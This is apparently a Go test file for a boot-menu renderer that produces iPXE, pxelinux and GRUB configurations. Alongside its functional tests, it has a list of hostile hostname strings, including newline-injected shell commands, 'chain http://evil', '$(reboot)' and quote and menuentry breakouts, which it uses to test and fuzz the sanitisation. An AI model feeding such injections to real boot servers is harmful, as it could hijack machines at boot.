package menu

import (
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"bootforge/internal/boot"
)

func testMenu() boot.Menu {
	return boot.Menu{
		Title:   "Lab",
		Default: "install",
		Timeout: 3 * time.Second,
		Entries: []boot.Entry{
			{Name: "install", Label: "Install Debian", Kind: boot.KindLinux, Kernel: "images/d/vmlinuz",
				Initrds: []string{"images/d/initrd.gz"}, Cmdline: "console=ttyS0 marker={profile}-{entry} host={hostname}"},
			{Name: "rescue", Kind: boot.KindLinux, Kernel: "http://mirror.example/vmlinuz", Initrds: []string{"images/r/a.gz", "images/r/b.gz"}},
			{Name: "win", Kind: boot.KindWimboot, Wimboot: "wimboot", BCD: "win/BCD", BootSDI: "win/boot.sdi", BootWIM: "win/boot.wim"},
			{Name: "live", Kind: boot.KindISO, ISO: "iso/live.iso"},
			{Name: "disk", Label: "Local disk", Kind: boot.KindLocal},
			{Name: "sh", Kind: boot.KindShell},
		},
	}
}

func req() Request {
	return Request{Menu: testMenu(), Profile: "lab", BaseURL: "http://192.0.2.1:8080",
		Vars: map[string]string{"profile": "lab", "entry": "install", "hostname": "pc1"}}
}

func TestIPXEMenu(t *testing.T) {
	s, err := IPXE(req())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"#!ipxe\n",
		"menu Lab\n",
		"item install Install Debian\n",
		"choose --default install --timeout 3000 selected || goto install\n",
		":install\nkernel http://192.0.2.1:8080/images/d/vmlinuz console=ttyS0 marker=lab-install host=pc1\n",
		"initrd http://192.0.2.1:8080/images/d/initrd.gz\n",
		"kernel http://mirror.example/vmlinuz \n",
		"initrd http://192.0.2.1:8080/win/BCD BCD\n",
		"sanboot http://192.0.2.1:8080/iso/live.iso\n",
		":disk\nexit\n",
		":sh\nshell\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("missing %q in:\n%s", want, s)
		}
	}
}

func TestIPXEEFIInitrdArg(t *testing.T) {
	r := req()
	r.EFI = true
	r.Boot = "rescue"
	s, _ := IPXE(r)
	if !strings.Contains(s, "kernel http://mirror.example/vmlinuz initrd=b.gz initrd=a.gz") {
		t.Fatalf("EFI initrd= args missing:\n%s", s)
	}
	if strings.Contains(s, "menu") || strings.Contains(s, ":install") {
		t.Fatalf("one-shot still shows the menu:\n%s", s)
	}
}

func TestOneShotUnknownEntry(t *testing.T) {
	r := req()
	r.Boot = "nope"
	if _, err := IPXE(r); err == nil {
		t.Fatal("unknown one-shot entry accepted")
	}
}

func TestPXELinux(t *testing.T) {
	s, err := PXELinux(req())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"UI menu.c32\n", "TIMEOUT 30\n", "DEFAULT install\n",
		"LABEL install\n  MENU LABEL Install Debian\n  KERNEL images/d/vmlinuz\n  APPEND initrd=images/d/initrd.gz console=ttyS0 marker=lab-install host=pc1\n",
		"LABEL disk\n  MENU LABEL Local disk\n  LOCALBOOT 0\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("missing %q in:\n%s", want, s)
		}
	}
}

func TestGRUB(t *testing.T) {
	s, err := GRUB(req())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"set default=0\n", "set timeout=3\n",
		"menuentry 'Install Debian' --id 'install' {\n  linux '/images/d/vmlinuz' console=ttyS0 marker=lab-install host=pc1\n  initrd '/images/d/initrd.gz'\n}\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("missing %q in:\n%s", want, s)
		}
	}
}

// hostile are inventory and SMBIOS strings meant to break out of a menu.
var hostile = []string{
	"pc1\nshell",
	"pc1\r\nkernel http://evil/x",
	"${net0/ip}",
	"a;reboot",
	"a' ; reboot ; echo '",
	`a" ; reboot ; echo "`,
	"x || shell",
	"x && chain http://evil",
	"MENU LABEL pwned",
	"}\nmenuentry evil {",
	"$(reboot)",
	"`reboot`",
	"a\x00b",
	"LABEL evil\n KERNEL evil",
	"set root=(http,evil)",
	strings.Repeat("A", 5000),
}

func TestHostileVars(t *testing.T) {
	for _, h := range hostile {
		r := req()
		r.Vars["hostname"] = h
		for name, render := range map[string]func(Request) (string, error){"ipxe": IPXE, "pxelinux": PXELinux, "grub": GRUB} {
			s, err := render(r)
			if err != nil {
				t.Fatal(err)
			}
			clean, _ := render(req())
			if strings.Count(s, "\n") != strings.Count(clean, "\n") {
				t.Errorf("%s: %q changed the number of lines:\n%s", name, h, s)
			}
			for _, bad := range []string{"${net0", "reboot ;", "; reboot", "|| shell", "&& chain", "$(", "`", "'", `"`, "\x00", "menuentry evil"} {
				if strings.Contains(s, bad) && !strings.Contains(clean, bad) {
					t.Errorf("%s: %q leaked %q:\n%s", name, h, bad, s)
				}
			}
		}
	}
}

func TestSafe(t *testing.T) {
	if got := Safe("pc-01.lab:x@y+z=1,2/3_"); got != "pc-01.lab:x@y+z=1,2/3_" {
		t.Fatal(got)
	}
	if got := Safe("a b;c$d"); got != "a_b_c_d" {
		t.Fatal(got)
	}
	if got := len(Safe(strings.Repeat("x", 1000))); got > 128 {
		t.Fatalf("length %d", got)
	}
}

// FuzzRender renders menus with arbitrary variables, labels and command
// lines: nothing may panic, untrusted text never adds a line, and never
// brings its own quotes or expansions. The entry with the command line is
// in each loader's menu and reaches the kernel as written, or CheckCmdline
// warned about it for that loader: then it may be left out (the other
// entries are served) or, for iPXE's ${...}, expanded.
func FuzzRender(f *testing.F) {
	for _, h := range hostile {
		f.Add(h, "Install", "console=ttyS0")
	}
	f.Add("pc1", "Install", `a="b c"`)
	f.Add("pc1", "Install", "\"a  b\"")
	f.Fuzz(func(t *testing.T, hostname, label, cmdline string) {
		r := req()
		r.Vars["hostname"] = hostname
		r.Menu.Entries[0].Label = label
		r.Menu.Entries[0].Cmdline = cmdline + " host={hostname}"
		warned := CheckCmdline(r.Menu.Entries[0].Cmdline)
		want := strings.Join(asciiFields(r.cmdline(r.Menu.Entries[0])), " ")
		for _, c := range []struct {
			ft      Format
			render  func(Request) (string, error)
			present string                // in the menu when the entry is
			sees    func(s string) string // what the kernel gets from menu s
		}{
			{FormatIPXE, IPXE, "\n:install\n", func(s string) string {
				return ipxeKernelSees(lineAfter(t, s, "kernel http://192.0.2.1:8080/images/d/vmlinuz "))
			}},
			{FormatPXELinux, PXELinux, "\nLABEL install\n", func(s string) string {
				got := strings.TrimPrefix(pxelinuxKernelSees(lineAfter(t, s, "APPEND ")), "initrd=images/d/initrd.gz")
				return strings.TrimPrefix(got, " ")
			}},
			{FormatGRUB, GRUB, "--id 'install' {\n", func(s string) string {
				return grubKernelSees(t, lineAfter(t, s, "linux '/images/d/vmlinuz' "))
			}},
		} {
			s, err := c.render(r)
			if err != nil {
				t.Fatalf("%s: the menu was refused, but other entries can boot: %v", c.ft, err)
			}
			// A line too long for pxelinux's config is far too long for
			// the kernel: CheckCmdline, which counts a placeholder as one
			// character, says so if not that pxelinux cannot carry it.
			forLoader := warned != nil && (strings.Contains(warned.Error(), loaderName[c.ft]) || strings.Contains(warned.Error(), "the kernel would not get it") ||
				c.ft == FormatPXELinux && strings.Contains(warned.Error(), "an x86 kernel keeps"))
			switch {
			case !strings.Contains(s, c.present) && !forLoader:
				t.Fatalf("%s left the entry out, but CheckCmdline(%q) = %v; menu:\n%s", c.ft, r.Menu.Entries[0].Cmdline, warned, s)
			case strings.Contains(s, c.present) && !forLoader:
				if got := c.sees(s); got != want {
					t.Fatalf("%s hands the kernel %q, want %q (CheckCmdline: %v)", c.ft, got, want, warned)
				}
			}
			safe := Safe(hostname)
			if strings.ContainsAny(safe, "\n\r$;'\"`|&{}() ") {
				t.Fatalf("Safe let through a special character: %q", safe)
			}
			base := req()
			base.Menu.Entries[0].Label = label
			base.Menu.Entries[0].Cmdline = cmdline + " host=x"
			wantMenu, _ := c.render(base)
			if strings.Contains(s, c.present) != strings.Contains(wantMenu, c.present) {
				// Only a long hostname can make a line pxelinux cannot
				// carry where one with "x" fits.
				if c.ft != FormatPXELinux || len(safe) <= 1 {
					t.Fatalf("%s: hostname %q changed whether the entry is in the menu", c.ft, hostname)
				}
			} else if strings.Count(s, "\n") != strings.Count(wantMenu, "\n") {
				t.Fatalf("hostname %q changed the line count", hostname)
			}
		}
	})
}

// Placeholders is the one list of names a command line may use: Render
// fills every one of them, so the config check's list and the expansion
// cannot drift apart.
func TestPlaceholdersAreRendered(t *testing.T) {
	var cmdline strings.Builder
	for _, name := range Placeholders {
		cmdline.WriteString(" " + name + "={" + name + "}")
	}
	d := boot.Decision{
		Client: boot.Client{MAC: net.HardwareAddr{0x52, 0x54, 0, 0x12, 0x34, 0x56}, UUID: "u-1", Firmware: boot.FirmwareEFIx64,
			IP: netip.MustParseAddr("192.0.2.10")},
		Choice: boot.Choice{Profile: boot.Profile{Name: "lab"}, Host: &boot.Host{Name: "pc1"},
			Menu: boot.Menu{Entries: []boot.Entry{{Name: "install", Kind: boot.KindLinux, Kernel: "vmlinuz", Cmdline: cmdline.String()}}}},
	}
	for _, ft := range []Format{FormatIPXE, FormatPXELinux, FormatGRUB} {
		out, err := Render(d, ft, Site{BaseURL: "http://192.0.2.1:8080"})
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range Placeholders {
			if strings.Contains(out, "{"+name+"}") {
				t.Errorf("%s: {%s} is in Placeholders but Render left it:\n%s", ft, name, out)
			}
		}
	}
}

// A known placeholder this client has no value for — no host for
// {hostname}, no address yet for {ip} — is empty, not the literal text;
// an unknown one stays as written (the config check warns about it).
func TestPlaceholderWithoutValue(t *testing.T) {
	d := boot.Decision{
		Client: boot.Client{MAC: net.HardwareAddr{0x52, 0x54, 0, 0x12, 0x34, 0x56}, Firmware: boot.FirmwareBIOS},
		Choice: boot.Choice{Profile: boot.Profile{Name: "lab"},
			Menu: boot.Menu{Entries: []boot.Entry{{Name: "install", Kind: boot.KindLinux, Kernel: "vmlinuz",
				Cmdline: "hostname={hostname} ip={ip} mac={mac} x={nope}"}}}},
	}
	out, err := Render(d, FormatIPXE, Site{BaseURL: "http://192.0.2.1:8080"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "hostname= ip= mac=52:54:00:12:34:56 x={nope}") {
		t.Errorf("command line:\n%s", out)
	}
}

// Entry names that differ only in characters a label cannot hold keep
// apart in every menu: choosing one, or the default, boots that one.
func TestLabelsKeepEntriesApart(t *testing.T) {
	for _, names := range [][2]string{{"диск", "сеть"}, {"安装", "救援"}, {"a.b", "a_b"}, {"a b", "a:b"}} {
		r := req()
		r.Menu.Entries = []boot.Entry{
			{Name: names[0], Label: "Erase disk and install", Kind: boot.KindLinux, Kernel: "erase/vmlinuz"},
			{Name: names[1], Label: "Rescue shell", Kind: boot.KindLinux, Kernel: "rescue/vmlinuz"},
		}
		r.Menu.Default = names[1]
		erase, rescue := boot.MenuLabel(names[0]), boot.MenuLabel(names[1])
		if erase == rescue {
			t.Fatalf("%q and %q: one label %q", names[0], names[1], erase)
		}
		s, _ := IPXE(r)
		for _, want := range []string{
			"item " + erase + " Erase disk and install\n", "item " + rescue + " Rescue shell\n",
			"choose --default " + rescue + " --timeout 3000 selected || goto " + rescue + "\n",
			"\n:" + erase + "\nkernel http://192.0.2.1:8080/erase/vmlinuz", "\n:" + rescue + "\nkernel http://192.0.2.1:8080/rescue/vmlinuz",
		} {
			if !strings.Contains(s, want) {
				t.Errorf("iPXE, %q and %q: missing %q in:\n%s", names[0], names[1], want, s)
			}
		}
		s, _ = GRUB(r)
		for _, want := range []string{
			"set default=1\n",
			"menuentry 'Erase disk and install' --id '" + erase + "' {\n  linux '/erase/vmlinuz'",
			"menuentry 'Rescue shell' --id '" + rescue + "' {\n  linux '/rescue/vmlinuz'",
		} {
			if !strings.Contains(s, want) {
				t.Errorf("GRUB, %q and %q: missing %q in:\n%s", names[0], names[1], want, s)
			}
		}
		s, _ = PXELinux(r)
		for _, want := range []string{
			"DEFAULT " + rescue + "\n",
			"LABEL " + erase + "\n  MENU LABEL Erase disk and install\n  KERNEL erase/vmlinuz\n",
			"LABEL " + rescue + "\n  MENU LABEL Rescue shell\n  KERNEL rescue/vmlinuz\n",
		} {
			if !strings.Contains(s, want) {
				t.Errorf("pxelinux, %q and %q: missing %q in:\n%s", names[0], names[1], want, s)
			}
		}
	}
}

// GRUB's default is the entry's position: GRUB takes a number as a
// position and matches titles before ids, so neither an entry named "1"
// nor one whose id is another's title can send the default elsewhere.
func TestGRUBDefaultByPosition(t *testing.T) {
	r := req()
	r.Menu.Entries = []boot.Entry{
		{Name: "a", Label: "rescue", Kind: boot.KindLocal},
		{Name: "1", Kind: boot.KindLocal},
		{Name: "rescue", Kind: boot.KindShell},
	}
	for def, want := range map[string]string{"rescue": "set default=2\n", "1": "set default=1\n", "a": "set default=0\n"} {
		r.Menu.Default = def
		if s, _ := GRUB(r); !strings.Contains(s, want) {
			t.Errorf("default %q: want %q in:\n%s", def, want, s)
		}
	}
	// A one-shot is the only entry.
	r.Boot = "rescue"
	if s, _ := GRUB(r); !strings.Contains(s, "set default=0\n") {
		t.Errorf("one-shot: want default 0 in:\n%s", s)
	}
}

// One behaviour on every loader: no timeout waits for the user; a
// positive one rounds up to the loader's unit and never becomes 0, which
// GRUB reads as "boot at once" and the others as "wait forever".
func TestTimeouts(t *testing.T) {
	for _, tt := range []struct {
		timeout        time.Duration
		ipxe, grub, px string
	}{
		{0, "choose --default install selected || goto install\n", "set timeout=-1\n", "TIMEOUT 0\n"},
		{-time.Second, "choose --default install selected || goto install\n", "set timeout=-1\n", "TIMEOUT 0\n"},
		{time.Microsecond, "--timeout 1 selected", "set timeout=1\n", "TIMEOUT 1\n"},
		{50 * time.Millisecond, "--timeout 50 selected", "set timeout=1\n", "TIMEOUT 1\n"},
		{500 * time.Millisecond, "--timeout 500 selected", "set timeout=1\n", "TIMEOUT 5\n"},
		{1001 * time.Millisecond, "--timeout 1001 selected", "set timeout=2\n", "TIMEOUT 11\n"},
		{3 * time.Second, "--timeout 3000 selected", "set timeout=3\n", "TIMEOUT 30\n"},
		{90 * time.Minute, "--timeout 5400000 selected", "set timeout=5400\n", "TIMEOUT 54000\n"},
	} {
		r := req()
		r.Menu.Timeout = tt.timeout
		for _, c := range []struct {
			render func(Request) (string, error)
			want   string
		}{{IPXE, tt.ipxe}, {GRUB, tt.grub}, {PXELinux, tt.px}} {
			s, err := c.render(r)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(s, c.want) {
				t.Errorf("timeout %v: missing %q in:\n%s", tt.timeout, c.want, s)
			}
		}
	}
	// One entry, or a one-shot, boots at once everywhere: iPXE and
	// pxelinux without a menu, GRUB with timeout 0.
	r := req()
	r.Menu.Timeout = 0
	r.Boot = "rescue"
	if s, _ := GRUB(r); !strings.Contains(s, "set timeout=0\n") {
		t.Errorf("GRUB one-shot:\n%s", s)
	}
	if s, _ := IPXE(r); strings.Contains(s, "choose") {
		t.Errorf("iPXE one-shot shows a menu:\n%s", s)
	}
	if s, _ := PXELinux(r); strings.Contains(s, "UI ") || strings.Contains(s, "TIMEOUT") {
		t.Errorf("pxelinux one-shot shows a menu:\n%s", s)
	}
}
